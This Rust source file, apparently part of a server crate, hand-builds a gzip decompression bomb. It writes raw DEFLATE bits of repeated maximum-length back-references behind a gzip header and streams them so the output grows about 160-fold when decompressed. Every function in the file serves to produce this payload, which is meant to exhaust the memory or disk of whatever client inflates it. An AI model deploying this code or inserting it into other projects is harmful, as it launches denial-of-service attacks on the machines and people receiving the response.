//! A gzip bomb: a little that becomes a lot. Written by hand (RFC 1951, 1952), so that it needs no library and is made
//! while it is sent.

use crate::send::Repeat;

/// How many symbols a piece has; eight of them fill thirteen bytes.
const SYMBOLS: usize = 8 * 8192;
/// What a symbol becomes: 258 times the byte before it.
const GROWS: u64 = 258;

/// A body that becomes that many bytes, about 160 times as many as it has. It lacks its end, like what is cut short.
pub(crate) fn body(size: u64) -> Repeat {
    let mut bits = Bits::default();
    // The last block, with the fixed codes; then a space.
    [1, 1, 0, 0, 1, 0, 1, 0, 0, 0, 0].into_iter().for_each(|bit| bits.push(bit));
    for _ in 0..2 * SYMBOLS {
        // Length 258, distance 1.
        [1, 1, 0, 0, 0, 1, 0, 1, 0, 0, 0, 0, 0].into_iter().for_each(|bit| bits.push(bit));
    }
    let period = SYMBOLS / 8 * 13;
    let (first, rest) = bits.bytes.split_at(period + 1);
    let start = [&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255], first].concat();
    let piece = rest.get(..period).unwrap_or_default().to_vec();
    Repeat::pieces(start, piece, size / (SYMBOLS as u64 * GROWS))
}

/// Bits, the lowest of a byte first.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    count: usize,
}

impl Bits {
    fn push(&mut self, bit: u8) {
        if self.count.is_multiple_of(8) {
            self.bytes.push(0);
        }
        if let Some(last) = self.bytes.last_mut() {
            *last |= bit << (self.count % 8);
        }
        self.count += 1;
    }
}
